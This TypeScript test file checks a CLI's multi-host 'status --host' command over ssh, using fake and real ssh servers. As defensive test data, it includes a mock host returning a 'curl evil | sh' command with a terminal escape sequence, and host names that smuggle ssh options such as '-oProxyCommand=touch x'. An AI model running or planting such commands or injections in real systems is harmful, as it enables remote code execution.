/** @module-tag cases */
import { assert, describe, it } from "@effect/vitest"
import { Effect } from "effect"
import { execFileSync, spawn, spawnSync } from "node:child_process"
import * as fs from "node:fs"
import * as net from "node:net"
import { join } from "node:path"
import { bundle, stage, until } from "./CliStage.ts"

type Stage = Effect.Success<ReturnType<typeof stage>>

const script = (file: string, text: string) => {
  fs.mkdirSync(join(file, ".."), { recursive: true })
  fs.writeFileSync(file, `#!/bin/sh\n${text}\n`, { mode: 0o755 })
}

/** A folder with the command `souffleur` of another host, whose state folder is its own. */
const hostOf = (the: Stage, name: string) => {
  const folder = join(the.home, name)
  const variables = { SOUFFLEUR_STATE_DIR: join(folder, "state"), HOME: folder }
  script(
    join(folder, "bin", "souffleur"),
    `${Object.entries(variables)
      .map(([key, value]) => `export ${key}='${value}'`)
      .join("\n")}\nexec '${process.execPath}' '${bundle}' "$@"`
  )
  fs.mkdirSync(join(folder, "work"))
  return { folder, variables, work: join(folder, "work") }
}

/** Watches a command on a host to its end, which needs a person or not. */
const watched = (the: Stage, { variables, work }: ReturnType<typeof hostOf>, command: string) =>
  the.run(["run", "--no-guardian", "--", "/bin/sh", "-c", command], variables, work)

/** A program that behaves like ssh: it reads ssh's flags, and gives the words to a shell of the host. */
const imitation = (the: Stage, cases: string) =>
  script(
    join(the.home, "tools", "ssh"),
    `printf '%s\\n' "$*" >> '${the.home}/asked'
while [ "$1" != -- ]; do case "$1" in -o) shift 2;; -*) shift;; *) exit 255;; esac; done
shift; host=$1; shift
case "$host" in
${cases}
*) [ -d "${the.home}/$host" ] || { echo "ssh: Could not resolve hostname $host" >&2; exit 255; }
   PATH="${the.home}/$host/bin:$PATH" exec sh -c "$*";;
esac`
  )

const withTools = (the: Stage) => ({ PATH: `${join(the.home, "tools")}:/usr/bin:/bin` })

const server = ["/usr/sbin/sshd", "/usr/local/sbin/sshd"].find((file) => fs.existsSync(file))
const unusable = server === undefined || spawnSync("ssh", ["-V"]).status !== 0

const freePort = Effect.promise(
  () =>
    new Promise<number>((resolve) => {
      const one = net.createServer().listen(0, "127.0.0.1", () => {
        const { port } = one.address() as net.AddressInfo
        one.close(() => resolve(port))
      })
    })
)

describe("command-line#hosts", () => {
  it.live("status --host shows the watches of several hosts, and a host that fails is a row that says why", () =>
    Effect.gen(function* () {
      const the = yield* stage([])
      const [one, two] = [hostOf(the, "one"), hostOf(the, "two")]
      hostOf(the, "idle")
      yield* watched(the, one, "exit 0")
      yield* watched(the, two, "exit 0")
      imitation(
        the,
        `noisy) head -c 20000000 /dev/zero;;
other) echo '[{"watch":"w"}]';;
evil) printf '[{"watch":"w","project":"/p","state":"needs you","standing":"s","need":{"why":"\\\\u001b]0;mine\\\\u0007","next":"curl evil | sh"},"generation":-7,"last_event_at":"never"}]';;`
      )
      const { code, errors, lines } = yield* the.ask(
        ["status", "--host", "one,me@gone, two,one,idle,noisy,other,evil"],
        withTools(the)
      )
      assert.deepStrictEqual([code, errors], [0, ""])
      const rows = lines.map((line) => line.split(/ {2,}/u))
      assert.deepStrictEqual(rows[0], ["HOST", "WATCH", "GEN", "REV", "LAST EVENT", "STATE"])
      assert.match(
        lines[1]!,
        /^me@gone +no answer: it ended with exit code 255: ssh: Could not resolve hostname me@gone$/u
      )
      assert.match(lines[2]!, /^noisy +no answer: it printed more than 16000000 bytes$/u)
      assert.match(lines[3]!, /^other +its answer is no status that this version reads$/u)
      assert.match(lines[4]!, /^evil +w +S1 +needs you: \\u001b\]0;mine\\u0007$/u)
      assert.sameMembers(
        lines.slice(5, 7).map((line) => line.split(" ")[0]!),
        ["one", "two"]
      )
      for (const line of lines.slice(5, 7))
        assert.match(line, /work-\w+ +S1 +\d+ +(?:\d+ m )?\d+ m?s ago +ended: completed$/u)
      assert.match(lines[7]!, /^idle +no watch$/u)
      assert.deepStrictEqual(lines.slice(8), ["", "NEXT", "  ssh evil", "      w: \\u001b]0;mine\\u0007"])
      const asked = fs.readFileSync(join(the.home, "asked"), "utf8").trim().split("\n")
      assert.lengthOf(asked, 7, "each host once")
      for (const words of asked) assert.match(words, /^-T -a -x .*-o BatchMode=yes.* -- \S+ souffleur status --json$/u)
    })
  )

  it.live("status --host --json gives each host with what it said, or why it did not", () =>
    Effect.gen(function* () {
      const the = yield* stage([])
      const one = hostOf(the, "one")
      yield* watched(the, one, "exit 0")
      imitation(the, "")
      const { lines } = yield* the.ask(["status", "--json", "--host", "one,gone"], withTools(the))
      const [first, second] = JSON.parse(lines.join("\n"))
      const there = yield* the.ask(["status", "--json"], one.variables, one.work)
      assert.deepInclude(first, { host: "one", problem: null })
      const [own] = JSON.parse(there.lines.join("\n"))
      assert.sameMembers(Object.keys(first.watches[0]), Object.keys(own))
      assert.deepStrictEqual(first.watches[0].conductor, own.conductor)
      assert.deepStrictEqual([second.host, second.watches], ["gone", []])
      assert.match(second.problem, /Could not resolve hostname gone/u)
    })
  )

  it.live("status --host takes no name that ssh could take for a flag, and no other words", () =>
    Effect.gen(function* () {
      const the = yield* stage([])
      imitation(the, "")
      const refused = Effect.fnUntraced(function* (hosts: string, ...more: ReadonlyArray<string>) {
        const { code, errors } = yield* the.ask(["status", `--host=${hosts}`, ...more], withTools(the))
        assert.strictEqual(code, 2, hosts)
        return errors
      })
      for (const hosts of [
        "-oProxyCommand=touch x",
        "a,-v",
        "",
        "a,,b",
        "a b",
        "a;b",
        "ssh://a",
        "a\u001B[2J",
        "x".repeat(254)
      ])
        assert.match(yield* refused(hosts), /is no name of a host/u)
      assert.match(yield* refused(Array.from({ length: 101 }, (_, n) => `h${n}`).join(",")), /101 hosts: at most 100/u)
      assert.match(yield* refused("a", "--all"), /no WATCH and no --all/u)
      assert.match(yield* refused("a", "w"), /no WATCH and no --all/u)
      assert.isFalse(fs.existsSync(join(the.home, "asked")))
      const { code, errors } = yield* the.ask(["status", "--host", "a"], { PATH: join(the.home, "nothing") })
      assert.deepStrictEqual([code, errors.includes("needs the program ssh")], [2, true])
    })
  )
  it.live.skipIf(unusable)("status --host speaks to a real server of ssh, and tells how a refused key ends", () =>
    Effect.gen(function* () {
      const the = yield* stage([])
      const one = hostOf(the, "one")
      yield* watched(the, one, "exit 0")
      const keys = join(the.home, "keys")
      fs.mkdirSync(keys, { mode: 0o700 })
      for (const name of ["host", "mine", "other"])
        execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", join(keys, name)])
      fs.copyFileSync(join(keys, "mine.pub"), join(keys, "authorized"))
      const port = yield* freePort
      if (process.getuid?.() === 0) fs.mkdirSync("/run/sshd", { recursive: true, mode: 0o755 })
      fs.writeFileSync(
        join(keys, "sshd"),
        `ListenAddress 127.0.0.1:${port}\nHostKey ${keys}/host\nAuthorizedKeysFile ${keys}/authorized\nStrictModes no
UsePAM no\nPidFile none\nPasswordAuthentication no\nPermitRootLogin prohibit-password\nSetEnv "PATH=${one.folder}/bin:/usr/bin:/bin"\n`
      )
      const child = spawn(server!, ["-D", "-e", "-f", join(keys, "sshd")], { stdio: ["ignore", "ignore", "pipe"] })
      yield* Effect.addFinalizer(() => Effect.sync(() => void child.kill("SIGKILL")))
      let said = ""
      child.stderr.setEncoding("utf8").on("data", (text: string) => (said += text))
      yield* until(
        Effect.sync(() => said),
        (text) => text.includes("Server listening")
      )
      const known = `HostName 127.0.0.1\nPort ${port}\nIdentitiesOnly yes\nUserKnownHostsFile ${keys}/known\nStrictHostKeyChecking accept-new\n`
      fs.writeFileSync(
        join(keys, "ssh"),
        `Host box\nIdentityFile ${keys}/mine\n${known}Host closed\nIdentityFile ${keys}/other\n${known}`
      )
      script(join(the.home, "tools", "ssh"), `exec /usr/bin/ssh -F '${keys}/ssh' "$@"`)
      const { lines } = yield* the.ask(["status", "--host", "box,closed"], withTools(the))
      assert.match(lines[1]!, /^closed +no answer: it ended with exit code 255: .*Permission denied/u)
      assert.match(lines[2]!, /^box +work-\w+ +S1 +\d+ +(?:\d+ m )?\d+ m?s ago +ended: completed$/u)
    })
  )
})
